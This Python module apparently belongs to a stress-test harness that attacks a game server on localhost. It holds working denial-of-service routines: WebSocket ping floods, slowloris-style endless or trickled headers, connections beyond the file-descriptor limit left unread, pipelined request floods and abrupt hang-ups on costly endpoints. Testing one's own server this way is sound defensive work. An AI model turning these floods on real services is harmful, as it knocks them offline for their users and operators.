"""Floods of connections, requests and frames: what they cost the server is out of proportion to what they cost."""

import asyncio
from itertools import cycle
from typing import Final

from attacks.hose import BREATH, Hose, crowd, hose, over_and_over, shake
from attacks.plan import Storm
from hostile.messages import KEY

PING: Final = b"\x89\x80" + KEY
AT_ONCE: Final = 80_000  # pings: 480 kB, as many bytes as a socket may send at once
STEP: Final = 0.05  # seconds
EACH_STEP: Final = 1_000  # pings: 120 kB a second, as many bytes as a socket may send for long
SOCKETS: Final = 8

GETS: Final = ("/", "/api/lobby", "/api/games/none")
UNREAD: Final = 1_100  # connections, where the server may open 1,024 files
ARRIVING: Final = 4_000.0  # a second
PIPELINED: Final = 300  # requests on an unread connection: their answers fit into no buffer


async def nothing(storm: Storm) -> None:
    """Keep a core busy and send nothing: what is measured then is the cost of an attacker on the same machine."""
    while storm.left:
        storm.did["loops"] += 1
        await asyncio.sleep(0)


async def pings(storm: Storm) -> None:
    await crowd(storm, SOCKETS, _ping)


async def _ping(storm: Storm) -> None:
    one = await shake(storm, storm.plan.seeds.idle)
    try:
        for number in (AT_ONCE // EACH_STEP) * (EACH_STEP,):
            await _count_pings(storm, one, number)
        while True:
            await _count_pings(storm, one, EACH_STEP)
            await asyncio.sleep(STEP)
    finally:
        one.transport.abort()


async def _count_pings(storm: Storm, one: Hose, number: int) -> None:
    await one.pour(PING * number)
    storm.did["pings"] += number


async def headers(storm: Storm) -> None:
    """Send request heads without an end: as one long line, as many lines, and byte by byte."""
    await asyncio.gather(
        crowd(storm, 2, lambda storm: _endless(storm, b"a" * 65536)),
        crowd(storm, 2, lambda storm: _endless(storm, b"x: y\r\nX-Long: " * 4096)),
        crowd(storm, 24, _trickle),
    )


async def _endless(storm: Storm, piece: bytes) -> None:
    one = await hose(storm)
    try:
        await one.pour(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Long: ")
        while True:
            await one.pour(piece)
            storm.did["bytes"] += len(piece)
            await asyncio.sleep(0)
    finally:
        one.transport.abort()


async def _trickle(storm: Storm) -> None:
    one = await hose(storm)
    try:
        await one.pour(b"GET / HTTP/1.1\r\nX-Slow: ")
        while True:
            await one.pour(b"a")
            storm.did["trickled"] += 1
            await asyncio.sleep(0.1)
    finally:
        one.transport.abort()


def _get(path: str) -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()


async def gets(storm: Storm) -> None:
    paths = cycle(GETS)
    await asyncio.gather(crowd(storm, 8, _keep_asking), crowd(storm, 24, lambda storm: _ask_once(storm, next(paths))))


async def _keep_asking(storm: Storm) -> None:
    """Ask again and again on one connection, many requests at a time."""
    one = await hose(storm)
    try:
        while True:
            await one.pour(b"".join([_get(path) for path in GETS]) * 4)
            await one.answer()
    finally:
        one.transport.abort()


async def _ask_once(storm: Storm, path: str) -> None:
    one = await hose(storm)
    try:
        await one.pour(_get(path))
        await one.answer()
    finally:
        one.transport.abort()


async def unread(storm: Storm) -> None:
    """Take more connections than the server has files, and read none of the answers."""
    await asyncio.gather(*[_arrive(storm, number) for number in range(UNREAD)])


async def _arrive(storm: Storm, number: int) -> None:
    await asyncio.sleep(number / ARRIVING)  # all at once they would wait for each other
    await over_and_over(storm, _do_not_read)


async def _do_not_read(storm: Storm) -> None:
    one = await hose(storm, reads=False)
    storm.did["connections"] += 1
    try:
        await one.pour(_get("/") * PIPELINED)
        while True:  # whoever does not read learns only by writing that the other side is gone
            await asyncio.sleep(0.5)
            await one.pour(_get("/"))
    finally:
        one.transport.abort()


async def hellos(storm: Storm) -> None:
    await crowd(storm, 24, _come_and_leave)


async def _come_and_leave(storm: Storm) -> None:
    one = await shake(storm, storm.plan.seeds.long)
    try:
        await one.answer()
        storm.did["welcomes"] += 1
    finally:
        one.transport.abort()


async def studies(storm: Storm) -> None:
    """Ask for reviews and replays and hang up at once, or soon."""
    review = _get(f"/api/matches/{storm.plan.seeds.review}/review")
    replay = _get(f"/api/matches/{storm.plan.seeds.replay}/replay")
    await asyncio.gather(
        *[over_and_over(storm, lambda storm: _hang_up(storm, review, 0.05)) for _ in range(12)],
        *[over_and_over(storm, lambda storm: _hang_up(storm, replay, 1.0)) for _ in range(12)],
    )


async def _hang_up(storm: Storm, request: bytes, after: float) -> None:
    one = await hose(storm)
    try:
        await one.pour(request)
        storm.did["asked"] += 1
        await asyncio.sleep(after)
    finally:
        one.transport.abort()
    await asyncio.sleep(BREATH)
